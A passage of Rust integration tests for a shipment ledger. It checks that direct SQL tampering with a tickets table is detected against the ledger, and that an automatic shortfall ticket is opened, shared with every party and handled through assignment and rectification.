            format!("update tickets set due = '2020-01-01' where id = '{id}'"),
            format!("update tickets set due = '{}' where id = '{id}'", cst_day(30)),
            format!("the tickets table differs from the ledger for {id}"),
        ),
        (
            format!("delete from tickets where id = '{id}'"),
            String::new(),
            "the tickets tables have 0 tickets and 3 history rows, the ledger 1 and 3".into(),
        ),
    ];
    for (alter, undo, finding) in cases {
        tamper(&l, b, &alter).await;
        let (ok, out) = verify_db(&l).await;
        assert!(!ok && out.contains(&finding), "{alter}: {out}");
        if !undo.is_empty() {
            tamper(&l, b, &undo).await;
            let out = verify_db(&l).await;
            assert!(out.0, "after {undo}: {}", out.1);
        }
    }
});

storage_test!(automatic_tickets_reach_the_tables, |b| async move {
    let mut l = TestLedger::start(b).await;
    let s = Scene::new(&l, 80).await;
    s.declare(&l, OIL, 10_000).await;
    let m = s.open(&l, &[(OIL, 10_000)]).await;
    pick_up(&l, &s.carrier, &m).await;
    // 5% short: the ledger opens a quantity_shortfall ticket right after the receipt.
    let receipt = receive(&l, &s.receiver, &m, &[(OIL, 9_500)]).await;
    let (_, page) = l.get("/v1/tickets?kind=quantity_shortfall").await;
    let tickets = page["tickets"].as_array().unwrap();
    assert_eq!(tickets.len(), 1, "{page}");
    let t = &tickets[0];
    assert_eq!(t["subject"]["manifest"], m.as_str());
    assert_eq!(t["quantity_g"], 500);
    assert_eq!(t["status"], "open");
    assert_eq!(t["opened_at"], receipt["event"]["at"]);
    let opened = l
        .get(&format!("/v1/entries/{}", t["history"][0]["seq"]))
        .await
        .1;
    assert_eq!(opened["event"]["actor"], "ledger");
    assert_history_matches_entries(&l, t).await;
    // Found by every party of its manifest, and handled by hand like any other.
    for org in [&s.gen.org, &s.carrier.org, &s.receiver.org] {
        let (_, p) = l.get(&format!("/v1/tickets?org={org}")).await;
        assert_eq!(p["tickets"][0]["ticket"], t["ticket"]);
    }
    let id = t["ticket"].as_str().unwrap().to_owned();
    l.ok(
        &l.regulator,
        "ticket.assigned",
        assign(&id, Some(&s.carrier), &cst_day(7)),
    )
    .await;
    l.ok(&s.carrier, "ticket.rectified", rectify(&id)).await;
    l.stop().await;
    let out = verify_db(&l).await;
    assert!(out.0, "verify failed: {}", out.1);
});
